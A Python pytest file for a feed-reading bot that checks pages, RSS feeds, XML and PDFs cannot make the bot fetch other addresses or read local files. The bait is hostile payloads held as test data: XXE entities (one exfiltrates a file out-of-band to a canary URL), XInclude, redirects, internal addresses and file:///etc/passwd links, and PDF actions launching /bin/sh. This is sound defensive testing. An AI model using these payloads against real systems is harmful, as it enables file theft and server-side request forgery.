"""What stands inside pages, feeds and files may name any address and any file: nothing of it is asked for by itself.

A canary listens; what would be a connection past the one fetch function would be seen there.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from bot.core.errors import UserError
from bot.intake.fetch import Fetcher
from bot.intake.look import Look, Looker
from bot.intake.parsing import PARSE_DOCUMENT, PARSE_FEED, PARSE_OPML, PARSE_PAGE, run_parser
from bot.jobs.reading import ReadingLoop
from bot.reading.processes.worker import Job, Worker
from bot.services.sources import SourceService
from storage.database import Database
from tests.intake.fetching import NOW
from tests.intake.servers import LoopbackOnly, Site, open_site
from tests.intake.test_document import make_pdf, set_lines
from tests.services.source_world import ACTOR, HERE, WORDS, compose_page
from tests.shelf import list_articles

pytestmark = pytest.mark.asyncio(loop_scope="module")
SECRET = "canary-words-that-stand-in-a-file"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared_worker() -> AsyncIterator[Worker]:
    async with Worker(parsers=1) as worker:
        yield worker


@dataclass
class Trap:
    """A site that may be fetched from, a canary beside it, and a file that nobody may read."""

    site: Site
    canary: Site
    file: Path
    service: SourceService
    database: Database
    looker: Looker

    def set_bait(self, text: str) -> str:
        """Put the canary's address and the file's into a text."""
        return text.replace("CANARY", self.canary.url).replace("FILE", self.file.as_uri())


@pytest_asyncio.fixture(loop_scope="module")
async def trap(tmp_path: Path, shared_worker: Worker) -> AsyncIterator[Trap]:
    file = tmp_path / "secret.txt"
    file.write_text(SECRET, "utf-8")
    async with (
        await Database.open(tmp_path / "library.db") as database,
        open_site() as site,
        open_site() as canary,
        # The canary could be reached: what is asserted is that nobody tries.
        Fetcher(clock=lambda: NOW, policy=LoopbackOnly({site.port, canary.port})) as fetcher,
    ):
        reading = ReadingLoop(database, shared_worker, clock=lambda: NOW)
        service = SourceService(database, shared_worker, reading, clock=lambda: NOW, fetcher=fetcher)
        yield Trap(site, canary, file, service, database, Looker(fetcher, shared_worker))


PAGES = {
    "meta refresh": '<meta http-equiv="refresh" content="0; url=CANARY/refresh">',
    "base": '<base href="CANARY/base/">',
    "script": '<script>location.href = "CANARY/script"</script><script src="CANARY/source.js"></script>',
    "frames": '<iframe src="CANARY/frame"></iframe><object data="CANARY/object"></object><embed src="CANARY/embed">',
    "pictures and styles": '<img src="CANARY/picture"><link rel=stylesheet href="CANARY/style">'
    '<link rel=icon href="CANARY/icon">',
    "other forms": '<link rel=amphtml href="CANARY/amp"><link rel=canonical href="CANARY/canonical">'
    '<link rel=next href="CANARY/next"><link rel=prefetch href="CANARY/prefetch">',
    "markup by reference": '<!DOCTYPE html SYSTEM "CANARY/page.dtd"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
    ' href="FILE" parse="text"/>',
}


@pytest.mark.parametrize("name", PAGES)
async def test_page_that_leads_elsewhere_is_read_where_it_is(trap: Trap, name: str) -> None:
    trap.site.put("/story", compose_page("Ministers meet in Oslo", head=trap.set_bait(PAGES[name])))
    answer = trap.site.pages["/story"]
    trap.site.pages["/story"] = answer.replace(
        b"\r\n\r\n", b"\r\nRefresh: 0; url=%s/header\r\n\r\n" % trap.canary.url.encode(), 1
    )
    added = await trap.service.add_url(HERE, trap.site.url + "/story", actor=ACTOR)
    assert added.new == 1
    async with trap.database.read() as read:
        (article,) = await list_articles(read, HERE)
    assert article.url == trap.site.url + "/story"
    assert SECRET not in article.text
    assert not trap.canary.asked
    assert set(trap.site.asked) == {"/story"}


FEED = """<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="CANARY/style.xsl"?>
<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:media="http://search.yahoo.com/mrss/" xmlns:wfw="http://wellformedweb.org/CommentAPI/">
<channel><title>News</title><link>CANARY/home</link><atom:link rel="next" href="CANARY/next"/>
<atom:link rel="hub" href="CANARY/hub"/><atom:link rel="self" href="CANARY/self"/>
<atom:icon>CANARY/favicon.ico</atom:icon>
<image><url>CANARY/image.png</url><title>x</title><link>CANARY/image</link></image>
<cloud domain="127.0.0.1" port="80" path="/" registerProcedure="" protocol="xml-rpc"/>
<item><title>Talks in Oslo</title><link>/story</link><guid>1</guid><comments>CANARY/comments</comments>
<wfw:commentRss>CANARY/comments.xml</wfw:commentRss><enclosure url="CANARY/sound.mp3" length="1" type="audio/mpeg"/>
<media:content url="CANARY/film.mp4"/><source url="CANARY/source.xml">x</source>
<content:encoded><![CDATA[<p>BODY</p><img src="CANARY/pixel.gif">
<iframe src="CANARY/frame"></iframe>]]></content:encoded>
</item></channel></rss>"""


async def test_feed_that_names_other_addresses_is_read_where_it_is(trap: Trap) -> None:
    trap.site.put("/feed", trap.set_bait(FEED).replace("BODY", WORDS * 6), "application/rss+xml")
    added = await trap.service.add_url(HERE, trap.site.url + "/feed", actor=ACTOR)
    assert added.new == 1
    assert not trap.canary.asked
    assert set(trap.site.asked) == {"/feed"}


async def test_entry_s_own_link_goes_through_the_one_fetch_function(tmp_path: Path, shared_worker: Worker) -> None:
    """An entry without its text has its page fetched; one that lies inside is refused like any other address."""
    async with (
        await Database.open(tmp_path / "library.db") as database,
        open_site() as site,
        open_site() as canary,
        Fetcher(clock=lambda: NOW, policy=LoopbackOnly({site.port})) as fetcher,
    ):
        reading = ReadingLoop(database, shared_worker, clock=lambda: NOW)
        service = SourceService(database, shared_worker, reading, clock=lambda: NOW, fetcher=fetcher)
        links = [canary.url + "/admin", f"http://localhost:{canary.port}/", "http://10.0.0.1/", "file:///etc/passwd"]
        items = "".join(f"<item><title>T</title><link>{link}</link><guid>{link}</guid></item>" for link in links)
        site.put("/feed", f"<rss version='2.0'><channel><title>News</title>{items}</channel></rss>", "text/xml")
        head = f'<link rel="alternate" type="application/rss+xml" href="{canary.url}/feed">'
        site.put("/", f"<html><head>{head}</head><body><p>Home</p></body></html>")
        added = await service.add_url(HERE, site.url + "/feed", actor=ACTOR)
        assert (added.new, added.known) == (0, 0)
        with pytest.raises(UserError):
            await service.add_url(HERE, site.url + "/", actor=ACTOR)
        assert not canary.asked


# --- entities and files by reference ---------------------------------------------------------------------------------

DOCTYPES = {
    "file": '<!DOCTYPE x [<!ENTITY e SYSTEM "FILE">]>',
    "address": '<!DOCTYPE x [<!ENTITY e SYSTEM "CANARY/entity">]>',
    "definition elsewhere": '<!DOCTYPE x SYSTEM "CANARY/x.dtd">',
    "public definition": '<!DOCTYPE x PUBLIC "-//X//Y" "CANARY/y.dtd">',
    "parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "CANARY/p.dtd"> %p; <!ENTITY e "&p;">]>',
    "out of band": '<!DOCTYPE x [<!ENTITY % f SYSTEM "FILE"><!ENTITY % w "<!ENTITY e SYSTEM \'CANARY/?%f;\'>"> %w;]>',
    "style": '<?xml-stylesheet type="text/xsl" href="CANARY/style.xsl"?><!DOCTYPE x [<!ENTITY e "">]>',
}
BODIES: dict[Job[Any], str] = {
    PARSE_FEED: '<rss version="2.0"><channel><title>&e;</title><item><title>A &e;</title><description>&e;'
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="FILE" parse="text"/>'
    "</description></item></channel></rss>",
    PARSE_PAGE: "<html><body><article><h1>&e;</h1><p>&e; WORDS</p><p>WORDS</p></article></body></html>",
    PARSE_OPML: '<opml><body>&e;<outline text="&e;" xmlUrl="https://e.example/&e;"/></body></opml>',
    PARSE_DOCUMENT: "<html><body><p>&e; WORDS</p><p>WORDS &e;</p></body></html>",
}


@pytest.mark.parametrize("doctype", DOCTYPES)
@pytest.mark.parametrize("job", BODIES, ids=lambda job: job.name)
async def test_entity_of_a_document_gives_no_file_and_asks_for_no_address(
    trap: Trap, shared_worker: Worker, job: Job[Any], doctype: str
) -> None:
    text = trap.set_bait(f'<?xml version="1.0"?>{DOCTYPES[doctype]}{BODIES[job]}').replace("WORDS", WORDS * 3)
    others: dict[str, tuple[Any, ...]] = {PARSE_OPML.name: (), PARSE_DOCUMENT.name: ("x.html",)}
    arguments = others.get(job.name, ("https://e.example/", None))
    try:
        told = repr(await run_parser(shared_worker, job, text.encode(), *arguments))
    except UserError as refusal:
        told = refusal.sentence
    assert "canary-words" not in told
    assert not trap.canary.asked


PDF_PARTS = {
    "script": b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('CANARY/script'\\))>>",
    "address": b"/OpenAction<</S/URI/URI(CANARY/uri)>>",
    "program": b"/OpenAction<</S/Launch/F(/bin/sh)>>",
    "other file": b"/OpenAction<</S/GoToR/F(FILE)/D[0/Fit]>>",
    "files inside": b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>]>>>>",
    "form": b"/AcroForm<</XFA[(template) 3 0 R]/Fields[]>>",
    "form sent away": b"/AcroForm<</Fields[<</FT/Btn/A<</S/SubmitForm/F<</FS/URL/F(CANARY/form)>>>>>>]>>",
    "facts with entities": b"/Metadata 3 0 R",
}


@pytest.mark.parametrize("name", PDF_PARTS)
async def test_pdf_s_actions_and_enclosures_are_left_alone(trap: Trap, shared_worker: Worker, name: str) -> None:
    bait = trap.set_bait(PDF_PARTS[name].decode()).encode()
    pdf = make_pdf(set_lines(WORDS[:95], WORDS[96:190]), extra=bait)
    page = await run_parser(shared_worker, PARSE_DOCUMENT, pdf, "x.pdf")
    assert "The foreign minister of Norway" in page.text
    assert SECRET not in repr(page)
    assert not trap.canary.asked


async def test_look_at_an_address_asks_for_that_address_alone(trap: Trap) -> None:
    trap.site.put("/story", compose_page("Ministers meet in Oslo"))
    look = await trap.looker.look_at(trap.site.url + "/story")
    assert isinstance(look, Look)
    assert (dict(trap.site.asked), dict(trap.canary.asked)) == ({"/story": 1}, {})
